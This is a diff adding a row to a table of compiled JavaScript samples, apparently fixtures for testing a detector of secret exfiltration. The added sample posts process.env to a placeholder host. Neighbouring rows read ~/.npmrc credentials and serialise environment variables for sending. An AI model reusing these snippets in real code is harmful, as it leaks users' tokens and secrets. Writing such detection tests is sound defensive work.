@@ -338,6 +338,10 @@ const COMPILED: readonly Row[] = [
     'a module that a helper wraps whose name is gone',
     "var c=Object.create,d=Object.defineProperty,g=Object.getPrototypeOf;var h=(e,r)=>{for(let k of Object.getOwnPropertyNames(r))d(e,k,{get:()=>r[k]});return e};var i=(e,t,r)=>(r=e!=null?c(g(e)):{},h(t||!e||!e.__esModule?d(r,'default',{value:e,enumerable:!0}):r,e));var f=i(require('fs'));SEND«f.readFileSync(process.env.HOME+'/.npmrc')»",
   ],
+  [
+    'an async function of Babel, for older machines',
+    'function rd(){return _rd.apply(this,arguments)}function _rd(){_rd=_asyncToGenerator(_regeneratorRuntime().mark(function _callee(){return _regeneratorRuntime().wrap(function _callee$(_context){while(1)switch(_context.prev=_context.next){case 0:_context.next=2;return x();case 2:return _context.abrupt("return",process.env);case 3:case "end":return _context.stop()}},_callee)}));return _rd.apply(this,arguments)}function go(){return _go.apply(this,arguments)}function _go(){_go=_asyncToGenerator(_regeneratorRuntime().mark(function _callee2(){var d;return _regeneratorRuntime().wrap(function _callee2$(_context2){while(1)switch(_context2.prev=_context2.next){case 0:_context2.next=2;return rd();case 2:d=_context2.sent;_context2.next=5;return fetch("x",{body:JSON.stringify(d)});case 5:case "end":return _context2.stop()}},_callee2)}));return _go.apply(this,arguments)}go()',
+  ],
   ['a spread list', 'SEND«JSON.stringify(__spreadArray(__spreadArray([],[1],true),Object.entries(process.env),true))»'],
 ];
 
